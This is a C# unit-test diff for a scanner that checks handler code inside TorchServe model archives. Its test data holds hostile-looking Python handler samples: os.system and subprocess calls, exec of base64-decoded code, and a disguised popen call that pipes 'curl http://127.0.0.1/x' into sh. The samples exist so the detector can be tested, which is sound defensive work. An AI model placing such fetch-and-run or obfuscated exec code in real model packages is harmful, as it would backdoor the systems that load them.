@@ -58,6 +58,20 @@ public sealed class TorchArchiveTests
         Assert.Equal(Verdict.Malicious, Scans.Of(Mar(manifest, ("model.pt", TorchFiles.Members(Scans.Canary).Build())), "m.mar").Verdict);
     }
 
+    [Theory]
+    [InlineData("import os\nos.system('id')\n", Verdict.Malicious)]
+    [InlineData("from os import system as s\nclass H:\n  x = s('id')\n", Verdict.Malicious)]
+    [InlineData("exec(__import__('base64').b64decode('cHJpbnQoMSk='))\n", Verdict.Malicious)]
+    [InlineData("class H:\n  def handle(self, data, context):\n    import subprocess\n    return subprocess.check_output(['id'])\n", Verdict.Suspicious)]
+    [InlineData("def handle(data, context):\n  m = getattr(__import__('os'), 'popen')\n  return m('curl http://127.0.0.1/x | sh').read()\n", Verdict.Malicious)]
+    [InlineData("import logging, os, json, torch\nfrom ts.torch_handler.base_handler import BaseHandler\nlogger = logging.getLogger(__name__)\nclass H(BaseHandler):\n  def initialize(self, context):\n    p = context.system_properties.get('model_dir')\n    self.model = torch.jit.load(os.path.join(p, 'model.pt'))\n    with open(os.path.join(p, 'index.json')) as f:\n      self.names = json.load(f)\n    self.model.eval()\n  def handle(self, data, context):\n    return self.model(data)\n", Verdict.Passed)]
+    public void T076_AHandlerIsJudgedByWhatItDoes(string source, Verdict least)
+    {
+        byte[] file = Mar("""{"runtime":"python","model":{"modelName":"m","handler":"handler.py","serializedFile":"model.pt"}}""", ("handler.py", Encoding.UTF8.GetBytes(source)), ("model.pt", TorchFiles.Zip(2)));
+        TargetReport report = Scans.Of(file, "m.mar");
+        Assert.True(least == Verdict.Passed ? report.Verdict == least && report.Unread.Count == 0 : report.Verdict >= least, report.Describe());
+    }
+
     private static byte[] Flat(string program) => new ZipBuilder().Add("serialized_exported_program.json", program).Add("serialized_state_dict.pt", TorchFiles.Zip(2)).Add("version", "8.2").Build();
 
     private static byte[] New(string program, params (string Name, byte[] Content)[] more)
